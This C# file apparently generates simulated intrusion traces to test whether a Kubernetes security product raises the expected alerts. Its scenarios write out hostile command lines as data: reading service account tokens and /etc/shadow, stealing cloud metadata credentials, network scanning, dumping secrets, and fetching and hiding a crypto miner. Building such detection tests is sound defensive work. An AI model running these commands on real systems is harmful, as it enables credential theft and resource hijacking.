using Vigil.Contracts.Events.V1;

namespace Vigil.Scenarios;

/// <summary>
/// The seed's five scenarios (DESIGN §1). Each starts from the same foothold, a web shell in a PHP storefront, and
/// goes on the way public write-ups of such intrusions describe: look around, reach for the cloud's credentials,
/// gather secrets, or mine.
/// </summary>
public static class AttackScenarios
{
    public const string WebShellTitle = "Possible Web Shell activity detected";
    public const string ServiceAccountTitle = "Suspicious Kubernetes service account operation detected";
    public const string ScannerTitle = "Network scanning tool detected";
    public const string MetadataTitle = "Access to cloud metadata service detected";
    public const string SensitiveFilesTitle = "Sensitive files access detected";
    public const string SecretReconTitle = "Possible secret reconnaissance detected";
    public const string CpuTitle = "Kubernetes CPU optimization detected";
    public const string PreloadTitle = "Command within a container accessed ld.so.preload";
    public const string MinerDownloadTitle = "Possible Cryptocoinminer download detected";
    public const string DriftTitle = "A drift binary detected executing in the container";

    public static IReadOnlyList<string> Names { get; } = ["recon", "lateral", "secrets", "crypto", "webshell"];

    private static readonly ExpectedAlert WebShell = new(WebShellTitle, "High", AlertSubject.Pod);

    /// <summary>
    /// The named scenario against a pod of its own in <paramref name="cluster"/>, starting at <paramref name="start"/>.
    /// A <paramref name="run"/> id gives the pod (name, uid, container) and its service account names of that run's
    /// own, so a second run raises new alerts instead of adding to the first run's within their de-duplication window.
    /// </summary>
    public static ScenarioTrace Build(string name, string cluster, DateTimeOffset start, string run = "") => name switch
    {
        "recon" => Recon(cluster, start, run),
        "lateral" => Lateral(cluster, start, run),
        "secrets" => Secrets(cluster, start, run),
        "crypto" => Crypto(cluster, start, run),
        "webshell" => WebShellOnly(cluster, start, run),
        _ => throw new ArgumentException($"Unknown scenario '{name}'. Known: {string.Join(", ", Names)}.", nameof(name)),
    };

    public static ScenarioTrace WebShellOnly(string cluster, DateTimeOffset start, string run = "")
    {
        var (trace, php) = Foothold(cluster, "webshell", start, run);
        Command(trace, php, "/usr/bin/id");
        Command(trace, php, "/usr/bin/whoami");
        Command(trace, php, "/bin/uname", "-a");
        return trace.Build("webshell", [WebShell]);
    }

    public static ScenarioTrace Recon(string cluster, DateTimeOffset start, string run = "")
    {
        var (trace, php) = Foothold(cluster, "recon", start, run);
        Command(trace, php, "/usr/bin/id");
        var (_, cat) = Command(trace, php, "/bin/cat", TokenPath);
        trace.Open(cat, TokenPath);
        var (_, curl) = Command(trace, php, "/usr/bin/curl", "-sk", "-H", "Authorization: Bearer eyJhbGciOiJSUzI1NiIs...",
            "-H", "Content-Type: application/json", "-X", "POST", "-d",
            """{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","spec":{"namespace":"shop"}}""",
            "https://kubernetes.default.svc/apis/authorization.k8s.io/v1/selfsubjectrulesreviews");
        trace.Dns(curl, "kubernetes.default.svc.cluster.local", "10.0.0.1");
        trace.Connect(curl, "10.0.0.1", 443);
        trace.Api("create", "selfsubjectrulesreviews", "", "", "curl/8.5.0", 201, "authorization.k8s.io");
        var (_, nmap) = Command(trace, php, "/usr/bin/nmap", "-sT", "-Pn", "-p", "22,80,443,2379,6443,10250", "10.244.0.0/16");
        foreach (var host in new[] { "10.244.0.1", "10.244.0.12", "10.244.1.5" })
        {
            trace.Connect(nmap, host, 10250);
        }
        return trace.Build("recon",
        [
            WebShell,
            new(ServiceAccountTitle, "Medium", AlertSubject.ServiceAccount),
            new(ScannerTitle, "Medium", AlertSubject.Pod),
        ]);
    }

    public static ScenarioTrace Lateral(string cluster, DateTimeOffset start, string run = "")
    {
        var (trace, php) = Foothold(cluster, "lateral", start, run);
        Command(trace, php, "/usr/bin/whoami");
        var (_, curl) = Command(trace, php, "/usr/bin/curl", "-s", "-H", "Metadata: true",
            "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/");
        trace.Connect(curl, "169.254.169.254", 80);
        return trace.Build("lateral", [WebShell, new(MetadataTitle, "Medium", AlertSubject.Pod)]);
    }

    public static ScenarioTrace Secrets(string cluster, DateTimeOffset start, string run = "")
    {
        var (trace, php) = Foothold(cluster, "secrets", start, run);
        var (_, shadow) = Command(trace, php, "/bin/cat", "/etc/shadow");
        // The storefront runs as www-data: the kernel refuses, and the attempt is the evidence.
        trace.Open(shadow, "/etc/shadow", errno: 13);
        var (_, download) = Command(trace, php, "/usr/bin/curl", "-sLo", "/tmp/kubectl", "https://dl.k8s.io/release/v1.30.2/bin/linux/amd64/kubectl");
        trace.Dns(download, "dl.k8s.io", "34.107.204.206");
        trace.Connect(download, "34.107.204.206", 443);
        trace.Create(download, "/tmp/kubectl");
        var (_, chmod) = Command(trace, php, "/bin/chmod", "+x", "/tmp/kubectl");
        trace.Chmod(chmod, "/tmp/kubectl", 493);
        var (_, kubectl) = Command(trace, php, "/tmp/kubectl", "get", "secrets", "--all-namespaces", "-o", "yaml");
        trace.Connect(kubectl, "10.0.0.1", 443);
        trace.Api("list", "secrets", "", "", "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350", 403);
        trace.Api("list", "secrets", "shop", "", "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350", 200);
        return trace.Build("secrets",
        [
            WebShell,
            new(SensitiveFilesTitle, "Medium", AlertSubject.Pod),
            new(SecretReconTitle, "Medium", AlertSubject.ServiceAccount),
        ]);
    }

    public static ScenarioTrace Crypto(string cluster, DateTimeOffset start, string run = "")
    {
        var (trace, php) = Foothold(cluster, "crypto", start, run);
        var (_, download) = Command(trace, php, "/usr/bin/curl", "-sLo", "/tmp/xmrig", "http://203.0.113.50/xmrig");
        trace.Connect(download, "203.0.113.50", 80);
        trace.Create(download, "/tmp/xmrig");
        var (_, chmod) = Command(trace, php, "/bin/chmod", "+x", "/tmp/xmrig");
        trace.Chmod(chmod, "/tmp/xmrig", 493);
        Command(trace, php, "/sbin/modprobe", "msr");
        var hugePages = Shell(trace, php, "echo 1280 > /proc/sys/vm/nr_hugepages");
        trace.Open(hugePages, "/proc/sys/vm/nr_hugepages", TraceBuilder.WriteCreateTruncate);
        var preload = Shell(trace, php, "echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload");
        trace.Open(preload, "/etc/ld.so.preload", TraceBuilder.WriteCreateTruncate);
        var (_, miner) = Command(trace, php, "/tmp/xmrig", "-o", "stratum+tcp://pool.supportxmr.com:3333", "-u",
            "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "-k", "--donate-level", "1");
        trace.Dns(miner, "pool.supportxmr.com", "141.94.96.144");
        trace.Connect(miner, "141.94.96.144", 3333);
        return trace.Build("crypto",
        [
            WebShell,
            new(CpuTitle, "High", AlertSubject.Pod),
            new(PreloadTitle, "Medium", AlertSubject.Pod),
            new(MinerDownloadTitle, "Medium", AlertSubject.Pod),
            new(DriftTitle, "High", AlertSubject.Pod),
        ]);
    }

    private const string TokenPath = "/var/run/secrets/kubernetes.io/serviceaccount/token";

    /// <summary>The storefront as it runs (supervisord, nginx, php-fpm), and the PHP worker a web shell runs in.</summary>
    private static (TraceBuilder Trace, Process Php) Foothold(string cluster, string scenario, DateTimeOffset start, string run)
    {
        var trace = new TraceBuilder(ScenarioPod.For(cluster, scenario, run), start);
        var shim = trace.Existing(1, "/usr/bin/containerd-shim-runc-v2", "root", "-namespace", "k8s.io", "-id", trace.Pod.ContainerId, "-address", "/run/containerd/containerd.sock");
        var supervisor = trace.Existing(shim.Pid, "/usr/bin/supervisord", "root", "-n", "-c", "/etc/supervisor/supervisord.conf");
        trace.Existing(supervisor.Pid, "/usr/sbin/nginx", "root", "-g", "daemon off;");
        var fpm = trace.Existing(supervisor.Pid, "/usr/sbin/php-fpm8.2", "root", "--nodaemonize", "--fpm-config", "/etc/php/8.2/fpm/php-fpm.conf");
        var worker = trace.Existing(fpm.Pid, "/usr/sbin/php-fpm8.2", "www-data", "--nodaemonize", "--fpm-config", "/etc/php/8.2/fpm/php-fpm.conf");
        return (trace, worker);
    }

    /// <summary>What PHP's system() does: <c>sh -c</c> with the command line, which then runs the command.</summary>
    private static (Process Shell, Process Command) Command(TraceBuilder trace, Process php, string binary, params string[] args)
    {
        var line = string.Join(' ', [binary, .. args.Select(a => a.Contains(' ', StringComparison.Ordinal) ? $"'{a}'" : a)]);
        var shell = trace.Exec(php, "/bin/sh", "-c", line);
        var command = trace.Exec(shell, binary, args);
        return (shell, command);
    }

    /// <summary>A command line the shell carries out itself (a redirection), without running another program.</summary>
    private static Process Shell(TraceBuilder trace, Process php, string line) => trace.Exec(php, "/bin/sh", "-c", line);
}
